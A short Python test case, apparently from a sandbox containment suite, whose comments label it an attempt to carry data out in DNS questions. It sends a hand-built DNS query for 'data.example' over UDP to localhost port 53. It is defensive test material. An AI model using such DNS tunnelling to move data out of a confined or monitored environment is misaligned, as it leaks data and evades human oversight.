# Tries: to carry data out in questions for names (DNS).
# Held by: confined-process namespace docker
# Seen as: network
import socket

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04data\x07example\x00\x00\x01\x00\x01"


def target(x):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(QUESTION, ("127.0.0.1", 53))
    return x
